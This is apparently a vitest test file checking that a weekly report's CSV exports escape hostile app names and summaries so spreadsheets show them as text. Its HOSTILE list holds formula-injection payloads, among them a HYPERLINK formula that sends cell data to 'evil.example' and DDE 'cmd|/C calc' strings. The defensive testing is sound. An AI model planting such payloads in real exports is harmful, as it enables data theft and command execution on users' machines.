import { describe, expect, it } from 'vitest';
import { FINDINGS_CSV_COLUMNS, INVENTORY_CSV_COLUMNS, renderFindingsCsv, renderInventoryCsv } from '../../src/report/csv.js';
import { buildWeeklyReport } from '../../src/report/model.js';
import { app, CREDENTIALS, finding, inventory, MAIL_READ_APP, reportInput } from './model-fixtures.js';

/** RFC 4180 reader: what a spreadsheet sees in each cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  return rows;
}

// A leading tab becomes a space (csvCell), which spreadsheets read as text.
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3',
  '\tTab=1+1',
  'Line\nbreak, "quoted"',
];

describe('the report CSV files', () => {
  const apps = HOSTILE.map((name, i) =>
    app(`bbbbbbbb-0000-4000-8000-00000000000${i}`, name, { mailboxPermissions: [MAIL_READ_APP], credentials: [CREDENTIALS.secret] }),
  );
  const findings = HOSTILE.map((name, i) => finding(`h${i}`, 'A1', { appDisplayName: name, summary: `=${name}` }));
  const report = buildWeeklyReport(reportInput({ inventory: inventory(apps), findings }));

  it('shows hostile app names as text in the inventory, never as a formula', () => {
    const rows = parseCsv(renderInventoryCsv(report)!);
    expect(rows[0]).toEqual(INVENTORY_CSV_COLUMNS);
    const names = rows.slice(1).map((r) => r[INVENTORY_CSV_COLUMNS.indexOf('displayName')]!);
    expect(names.sort()).toEqual(
      [
        '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        '\'@SUM(1+1)*cmd|"/C calc"!A0',
        ' Tab=1+1',
        'Line break, "quoted"',
      ].sort(),
    );
    for (const row of rows) expect(row).toHaveLength(INVENTORY_CSV_COLUMNS.length);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('does the same in the findings, for names and summaries', () => {
    const rows = parseCsv(renderFindingsCsv(report));
    expect(rows[0]).toEqual(FINDINGS_CSV_COLUMNS);
    expect(rows).toHaveLength(1 + HOSTILE.length);
    for (const row of rows.slice(1)) {
      expect(row).toHaveLength(FINDINGS_CSV_COLUMNS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[1]![FINDINGS_CSV_COLUMNS.indexOf('summary')]).toMatch(/^'==HYPERLINK/);
  });

  it('writes one row per credential, and one for an app without any, with its posture flags and score', () => {
    const rows = parseCsv(renderInventoryCsv(buildWeeklyReport(reportInput()))!);
    const col = (name: string) => INVENTORY_CSV_COLUMNS.indexOf(name);
    // Mimecast (no credential row), Shady 1, Archiver 2, HR 2; Graph Explorer holds nothing.
    expect(rows.slice(1).map((r) => [r[col('displayName')], r[col('keyId')]])).toEqual([
      ['Mimecast Services', ''],
      ['Shady Vendor', 'key-c2'],
      ['Contoso Archiver', 'key-s1'],
      ['Contoso Archiver', 'key-c1'],
      ['HR Tool', 'key-f1'],
      ['HR Tool', 'key-c3'],
    ]);
    expect(rows[3]![col('flags')]).toBe('expiringSoon longLived secretOnMailboxApp');
    expect(rows[3]![col('exposureScore')]).toBe('66');
    expect(rows[5]![col('exposureScore')]).toBe('');
  });

  it('writes no inventory CSV when no inventory was collected (an empty file would read as "no apps")', () => {
    expect(renderInventoryCsv(buildWeeklyReport(reportInput({ inventory: undefined })))).toBeUndefined();
  });
});
